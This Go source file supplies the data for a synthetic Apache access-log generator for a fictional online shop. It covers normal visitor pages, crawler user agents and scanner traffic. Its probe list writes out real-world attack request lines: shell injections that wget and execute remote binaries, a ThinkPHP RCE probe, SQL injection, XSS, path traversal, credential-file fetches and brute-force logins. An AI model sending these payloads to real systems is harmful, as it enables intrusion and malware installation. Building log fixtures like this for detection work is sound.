package loggen

// The shop's pages, the crawlers', scanners' and attackers' requests and
// user agents. Request strings are written as Apache logs them: '"' and
// '\' escaped with a backslash, other bytes outside printable ASCII as \xhh.

const site = "https://shop.example.com"

// page is a request a visitor or crawler makes, with its body size.
type page struct {
	req  string // "GET /path HTTP/1.1"
	ref  string // the page's URL, the referer of what it loads
	size int
}

var productSlugs = []string{
	"merino-wool-beanie", "waxed-canvas-tote", "leather-card-wallet", "enamel-camp-mug",
	"ceramic-pour-over", "cast-iron-skillet-10in", "linen-apron", "wool-throw-blanket",
	"beeswax-candle-set", "brass-bottle-opener", "cedar-soap-bar", "cotton-waffle-towel",
	"stoneware-bowl-set", "oak-cutting-board", "copper-kettle", "wool-slippers",
	"canvas-apron", "glass-storage-jars", "bamboo-toothbrush-4pk", "hemp-shopping-bag",
	"walnut-salad-servers", "linen-napkins-6pk", "cashmere-scarf", "leather-belt",
	"ceramic-planter", "terracotta-pot-set", "soy-wax-candle", "wool-dryer-balls",
	"french-press-8cup", "pour-over-kettle", "espresso-cups-2pk", "tea-infuser",
	"picnic-blanket", "insulated-bottle", "travel-mug", "camp-stove",
	"rain-jacket-women", "rain-jacket-men", "wool-socks-3pk", "knit-gloves",
}

var categoryNames = []string{"accessories", "kitchen", "home", "bath", "outdoor", "clothing", "gifts", "sale"}

var searchTerms = []string{
	"mug", "wool", "gift+for+dad", "candle", "towel", "skillet", "apron", "women%27s+rain+jacket",
	"tote+bag", "soap", "kettle", "scarf", "socks", "blanket", "cutting+board", "tea",
	"bottle", "gloves", "planter", "gift+card",
}

// pages is every page a visitor starts on or goes to, built once.
var pages = buildPages()

func buildPages() []page {
	var ps []page
	add := func(path string, size int) {
		ps = append(ps, page{"GET " + path + " HTTP/1.1", site + path, size})
	}
	for range 6 { // the home page is the most common landing page
		add("/", 11853)
	}
	for i, s := range productSlugs {
		add("/products/"+s, 13000+i*97%2000)
		add("/products/"+s, 13000+i*97%2000)
	}
	for i, c := range categoryNames {
		add("/category/"+c, 16000+i*311%3000)
	}
	for i, q := range searchTerms {
		add("/search?q="+q, 9000+i*277%6000)
	}
	add("/cart", 9876)
	add("/checkout", 12310)
	add("/account/login", 6120)
	add("/account/orders", 8890)
	add("/about", 7012)
	add("/contact", 6533)
	add("/shipping", 7840)
	return ps
}

// assets are loaded by a browser after its first page.
var assets = []page{
	{"GET /static/css/site.css HTTP/1.1", "", 18342},
	{"GET /static/js/app.js HTTP/1.1", "", 48211},
	{"GET /static/img/logo.svg HTTP/1.1", "", 3120},
	{"GET /favicon.ico HTTP/1.1", "", 1150},
	{"GET /api/cart HTTP/1.1", "", 57},
	{"GET /static/fonts/inter-var.woff2 HTTP/1.1", "", 98512},
}

// actions are a visitor's POSTs, answered 302.
var actions = []string{"POST /cart/add HTTP/1.1", "POST /cart/add HTTP/1.1", "POST /checkout HTTP/1.1", "POST /newsletter HTTP/1.1"}

// missing are ordinary 404s.
var missing = []string{
	"GET /apple-touch-icon.png HTTP/1.1", "GET /apple-touch-icon-precomposed.png HTTP/1.1",
	"GET /products/summer-hat-2019 HTTP/1.1", "GET /category/clearance HTTP/1.1",
	"GET /static/img/products/old-logo.png HTTP/1.1",
}

var externalRefs = []string{
	"https://www.google.com/", "https://www.google.com/", "https://www.google.com/", "https://www.google.com/",
	"https://www.bing.com/", "https://duckduckgo.com/", "https://www.instagram.com/", "https://l.facebook.com/",
	"https://www.pinterest.com/", "https://t.co/", "-", "-", "-", "-", "-", "-",
}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 26_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
}

const (
	uaGooglebot      = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	uaGooglebotPhone = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	uaGoogleImage    = "Googlebot-Image/1.0"
	uaBingbot        = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
	uaBingbotOld     = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
	uaYandex         = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
	uaApplebot       = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"
	uaBaidu          = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
	uaAhrefs         = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
	uaPetal          = "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"
	uaDuckDuckBot    = "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"
)

// botPages are what crawlers fetch besides the shop's pages.
var botPages = []page{
	{"GET /robots.txt HTTP/1.1", "", 112},
	{"GET /sitemap.xml HTTP/1.1", "", 2381},
	{"GET /sitemap-products.xml HTTP/1.1", "", 5120},
}

// scannerUAs are the user agents of vulnerability scanners; the ordinary
// browser ones are scanners that hide (only their paths give them away).
var scannerUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows; U; Windows NT 6.0; en-US; rv:1.9.2.13) Gecko/20101203 Firefox/3.6.13",
	"Mozilla/5.0 zgrab/0.x",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"ZmEu",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
	"sqlmap/1.8.2#stable (https://sqlmap.org)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 nuclei",
	"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
	"Mozilla/5.0 (l9explore/1.2.2)",
	"Hello, world",
	"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21",
	"python-requests/2.31.0",
	"Go-http-client/1.1",
	"curl/7.88.1",
	"Morfeus Fucking Scanner",
	"-",
}

// probes are scanners' requests, with the status the shop answers.
var probes = []struct {
	req    string
	status int
}{
	{"GET /.env HTTP/1.1", 404}, {"GET /.git/config HTTP/1.1", 404}, {"GET /.git/HEAD HTTP/1.1", 404},
	{"GET /.aws/credentials HTTP/1.1", 404}, {"GET /config.json HTTP/1.1", 404}, {"GET /.DS_Store HTTP/1.1", 404},
	{"GET /wp-login.php HTTP/1.1", 404}, {"GET /wp-admin/setup-config.php HTTP/1.1", 404},
	{"GET /xmlrpc.php HTTP/1.1", 404}, {"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1", 404},
	{"GET /phpmyadmin/index.php HTTP/1.1", 404}, {"GET /pma/scripts/setup.php HTTP/1.1", 404},
	{"GET /phpMyAdmin/scripts/setup.php HTTP/1.1", 404}, {"GET /myadmin/scripts/setup.php HTTP/1.1", 404},
	{"GET /w00tw00t.at.blackhats.romanian.anti-sec:) HTTP/1.1", 400},
	{`GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1`, 403},
	{"GET /TP/public/index.php HTTP/1.1", 404}, {"GET /TP/index.php HTTP/1.1", 404},
	{"GET /thinkphp/html/public/index.php HTTP/1.1", 404}, {"GET /elrekt.php HTTP/1.1", 404},
	{"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404},
	{"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404},
	{"GET /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404},
	{"POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400},
	{"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", 400},
	{"GET /shell?cd+/tmp;rm+-rf+*;wget+http://117.239.21.130:52033/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1", 404},
	{"POST /boaform/admin/formLogin HTTP/1.1", 404},
	{"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F103.149.28.141%2Ft+-O-+%7C+sh%60) HTTP/1.1", 404},
	{"GET /soapCaller.bs HTTP/1.1", 404}, {"GET /phpinfo.php HTTP/1.1", 404}, {"GET /info.php HTTP/1.1", 404},
	{"GET /server-status HTTP/1.1", 403}, {"GET /admin/.env HTTP/1.1", 404}, {"GET /admin/config.php HTTP/1.1", 404},
	{"GET /products?id=1%27%20OR%201=1-- HTTP/1.1", 200}, {"GET /search?q=1%27%20UNION%20SELECT%20NULL,NULL-- HTTP/1.1", 200},
	{"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200},
	{"GET /products/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 404},
	{"GET /../../../../etc/passwd HTTP/1.1", 400},
	{"GET /index.php?page=file:///etc/passwd HTTP/1.1", 404},
	{"GET /acunetix-wvs-test-for-some-inexistent-file HTTP/1.1", 404},
	{"GET /HNAP1/ HTTP/1.1", 404}, {"GET /actuator/env HTTP/1.1", 404}, {"GET /api/v1/pods HTTP/1.1", 404},
	{"GET /owa/auth/logon.aspx HTTP/1.1", 404}, {"GET /remote/login HTTP/1.1", 404},
	{"GET /solr/admin/info/system HTTP/1.1", 404}, {"GET /console/ HTTP/1.1", 404},
	{"GET /_ignition/execute-solution HTTP/1.1", 404}, {"GET /debug/default/view?panel=config HTTP/1.1", 404},
	{"GET /.well-known/security.txt HTTP/1.1", 404}, {"GET /backup.zip HTTP/1.1", 404},
	{"GET /db.sql HTTP/1.1", 404}, {"GET /dump.sql HTTP/1.1", 404}, {"GET /wp-config.php.bak HTTP/1.1", 404},
	{"GET /login.action HTTP/1.1", 404}, {"GET /jenkins/login HTTP/1.1", 404},
	{"GET /geoserver/web/ HTTP/1.1", 404}, {"GET /manager/html HTTP/1.1", 404},
	{"GET / HTTP/1.0", 200}, {"GET /favicon.ico HTTP/1.1", 200},
}

// loginPaths are brute-forced; a failure is answered 401 or 403.
var loginPaths = []struct {
	req    string
	status int
	size   int
}{
	{"POST /account/login HTTP/1.1", 401, 6344},
	{"POST /account/login HTTP/1.1", 403, 512},
	{"POST /wp-login.php HTTP/1.1", 401, 3120},
	{"POST /admin/login HTTP/1.1", 401, 2211},
	{"POST /user/login HTTP/1.1", 403, 1877},
	{"POST /api/auth/login HTTP/1.1", 401, 61},
}

var bruteUAs = []string{
	"python-requests/2.31.0", "Go-http-client/1.1", "curl/7.68.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36", "okhttp/4.9.3",
}

// proxyReqs are proxy probes: CONNECT and absolute URIs for other hosts.
var proxyReqs = []struct {
	req    string
	status int
}{
	{"CONNECT leakix.net:443 HTTP/1.1", 405}, {"CONNECT www.google.com:443 HTTP/1.1", 405},
	{"CONNECT account.atresmedia.com:25 HTTP/1.1", 405}, {"CONNECT smtp.mail.ru:25 HTTP/1.1", 405},
	{"CONNECT 64.233.184.27:25 HTTP/1.1", 405}, {"CONNECT api.ipify.org:443 HTTP/1.1", 405},
	{"GET http://www.baidu.com/ HTTP/1.1", 200}, {"GET http://azenv.net/ HTTP/1.1", 200},
	{"GET http://httpbin.org/ip HTTP/1.1", 404}, {"GET http://example.com/ HTTP/1.1", 200},
	{"HEAD http://www.bing.com/ HTTP/1.1", 200}, {"GET http://ip-api.com/json HTTP/1.1", 404},
}

var proxyUAs = []string{"-", "Java/1.8.0_271", "Go-http-client/1.1", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "curl/7.29.0"}

// noiseReqs are bytes that are not HTTP where a request line should be,
// with the status Apache logs for them.
var noiseReqs = []struct {
	req    string
	status int
}{
	{`\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a\xb2\x1f\xc4\x19`, 400},
	{`\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\xb4\x9f\x10\xd7\x01`, 400},
	{`\x16\x03\x02`, 400},
	{`\x16\x03\x01\x02`, 400},
	{"-", 408},
	{"-", 408},
	{"Cookie: mstshash=Administr", 400},
	{`\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`, 400},
	{"SSH-2.0-Go", 400},
	{"MGLNDD_198.51.100.24_443", 400},
	{`\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8`, 400},
	{`GET / HTTP/1.1\r\nHost: shop.example.com\r\n`, 400},
	{"\\x05\\x01\\x00", 400},
	{"OPTIONS sip:nm SIP/2.0", 400},
}
